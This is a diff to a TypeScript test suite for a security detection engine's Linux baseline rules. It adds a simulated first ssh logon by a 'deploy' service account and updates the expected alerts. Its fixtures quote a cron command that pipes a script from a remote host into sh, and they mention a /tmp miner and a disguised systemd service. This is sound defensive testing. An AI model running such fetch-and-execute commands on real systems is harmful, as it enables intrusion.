@@ -197,6 +197,8 @@ function attack(tenant: string, at = DAY30): SocEvent[] {
     serviceStart(tenant, DAY30 + 300_000, 'kworkerd'),
     syslog(tenant, DAY30 + 300_001, 'systemd', 'Started kworkerd.service - kworkerd.'),
     syslog(tenant, DAY30 + 300_002, 'systemd', 'Started session-50231.scope - Session 50231 of User alice.'),
+    // A service account that never used ssh: no history of its own, but web-01 has one of logons.
+    accepted(tenant, DAY30 + 360_000, 'deploy', '203.0.113.9', 'password'),
   ];
 }
 
@@ -240,7 +242,12 @@ describe('Linux baselines', () => {
       'first time in 30 days that /usr/bin/bash started /tmp/.x/miner on web-01',
       'first time in 30 days that cron ran "curl -s http://198.51.100.7/s.sh | sh" as www-data on web-01',
       'first time in 30 days that systemd unit kworkerd started on web-01',
+      'first logon of deploy to web-01 in 30 days',
     ]);
+    expect(hits[6]?.alert.summary).toContain(
+      'in 30 days (ssh/password from 203.0.113.9) (30 days of history since 2026-01-05: 26 logons, 1 distinct user logging on)',
+    );
+    expect(hits[6]?.alert.techniques).toEqual(['T1021.004', 'T1078']);
     const shell = hits[0]?.alert;
     expect(shell?.summary).toContain('50 process starts, 2 distinct parent → child processes');
     expect(shell?.techniques).toEqual(['T1059.004', 'T1505.003']);
@@ -268,7 +275,7 @@ describe('Linux baselines', () => {
     o2.detect(attack('acme'));
     const rules = novelty(second.push(o2.takeObservations())).map((h) => h.alert.summary.split(' (')[0]);
     // Everything but the web shell: nginx's pid was learned before the restart.
-    expect(rules).toHaveLength(5);
+    expect(rules).toHaveLength(6);
     expect(rules).not.toContain('first time in 30 days that /usr/sbin/nginx started /bin/sh on web-01');
     expect(o2.linux.unresolved).toBe(1);
     second.close();
@@ -286,7 +293,7 @@ describe('Linux baselines', () => {
     obs.detect(attack('acme'));
     obs.detect(attack('other'));
     const hits = novelty(engine.push(obs.takeObservations()));
-    expect(hits.map((h) => h.tenant)).toEqual(Array.from({ length: 6 }, () => 'acme'));
+    expect(hits.map((h) => h.tenant)).toEqual(Array.from({ length: 7 }, () => 'acme'));
     engine.close();
   });
 });
